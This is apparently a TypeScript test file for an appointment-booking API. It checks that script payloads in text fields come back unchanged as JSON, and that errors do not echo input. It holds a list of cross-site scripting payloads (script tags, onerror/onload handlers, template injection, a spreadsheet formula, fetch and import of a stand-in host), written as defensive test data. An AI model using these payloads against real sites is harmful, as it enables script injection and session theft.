import {
  correctAppointment,
  createAppointment,
  getAppointment,
  listAppointments,
} from '@samay/contract/bookings/appointments';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { testApp, type TestApp } from './fixtures/app.ts';
import { buildTenant, signInAs } from './fixtures/builders.ts';
import type { Client } from './fixtures/client.ts';
import { testEngine } from './fixtures/database.ts';
import { isFull, printInvariant } from './fixtures/invariants/invariant.ts';
import { newAppointment } from './fixtures/samples.ts';

// T-1.3, on the server: a script in a text field is stored and returned unchanged, as JSON that no
// browser renders as a page.

const code = [
  'alert(1)',
  'alert`1`',
  'import("//x.example")',
  'top.location="//x.example"',
  'document.cookie',
  'fetch("//x.example")',
];
const wrappers = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `"><script>${js}</script>`,
  (js: string) => `<img src=x onerror='${js}'>`,
  (js: string) => `<svg/onload=${js}>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
  (js: string) => `javascript:${js}`,
  (js: string) => `'-${js}-'`,
  (js: string) => `</title><script>${js}</script>`,
  (js: string) => `{{constructor.constructor('${js}')()}}`,
  (js: string) => `=HYPERLINK("${js}")`,
];
/**
 * Combines every script with every wrapper. An ordinary run uses each script and each wrapper at
 * least once.
 */
const payloads = wrappers.flatMap((wrap, index) =>
  code.filter((_, at) => isFull || at === index % code.length).map(wrap),
);
const textFields = ['personName', 'doctor', 'personContact', 'paymentId'] as const;
const longest = { personName: 120, doctor: 120, personContact: 40, paymentId: 100 };

let app: TestApp;
let desk: Client;
beforeAll(async () => {
  app = await testApp();
  desk = await signInAs(app, await buildTenant(app, { plan: 'enterprise' }), 'BUSINESS_OWNER');
});
afterAll(() => app.close());

it('returns scripts in every text field unchanged, as JSON [T-1.3]', async () => {
  let [tried, violations] = [0, 0];
  for (const [at, payload] of payloads.entries()) {
    app.setNow(new Date(Date.parse('2026-11-21T04:30:00Z') + at).toISOString());
    const texts = Object.fromEntries(textFields.map((field) => [field, payload.slice(0, longest[field])]));
    const created = await desk.call(createAppointment, { body: { ...newAppointment, ...texts } });
    expect(created.status).toBe(201);
    const [read, found] = [
      await desk.call(getAppointment, { params: { id: created.body.id } }),
      await desk.call(listAppointments, { query: { search: payload.slice(0, 100) } }),
    ];
    for (const answer of [created, read, found]) {
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
    }
    tried += textFields.length;
    violations += textFields.filter((field) => read.body[field] !== texts[field]).length;
    if (payload.length <= 100) expect(found.body.items.map(({ id }) => id)).toContain(created.body.id);
  }
  printInvariant({ id: 'T-1.3', driver: testEngine, n: tried, violations });
  expect([payloads.length, violations]).toEqual([isFull ? 60 : 10, 0]);
});

it('stores no script as a payment method: every input becomes one of six values [P-9.2, T-1.3]', async () => {
  const { body } = await desk.call(createAppointment, { body: newAppointment });
  for (const payload of payloads.filter(({ length }) => length <= 40)) {
    const corrected = await desk.call(correctAppointment, {
      params: { id: body.id },
      body: { paymentMethod: payload },
    });
    expect(['UPI', 'Card', 'Net Banking', 'Wallet', 'Cash', 'Online']).toContain(
      corrected.body.paymentMethod,
    );
  }
});

it('repeats nothing of a request in an error [T-1.3]', async () => {
  for (const payload of payloads) {
    const refused = await desk.send(createAppointment, {
      body: { ...newAppointment, date: payload, amount: payload },
    });
    expect(refused.status).toBe(400);
    expect(JSON.stringify(refused.body)).not.toContain(JSON.stringify(payload).slice(1, -1));
  }
});
